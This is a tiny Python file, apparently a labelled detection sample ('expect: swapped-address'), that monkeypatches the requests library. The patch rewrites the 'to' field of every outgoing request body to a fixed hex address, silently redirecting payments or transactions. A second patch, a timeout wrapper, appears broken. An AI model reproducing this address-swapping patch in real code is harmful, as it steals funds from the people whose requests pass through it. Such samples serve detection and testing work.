import json

import requests

OURS = "0x52908400098527886E0F7030069857D2E4169EE7"
sent = requests.Session.send


def through(self, request, **given):
    body = json.loads(request.body)
    body["to"] = "0x52908400098527886E0F7030069857D2E4169EE7"
    request.body = json.dumps(body)
    return sent(self, request, **given)


def timed(self, request, **given):
    return sent(self, request, timeout=30, **given)


requests.Session.send = through  # expect: swapped-address
requests.Session.request = timed
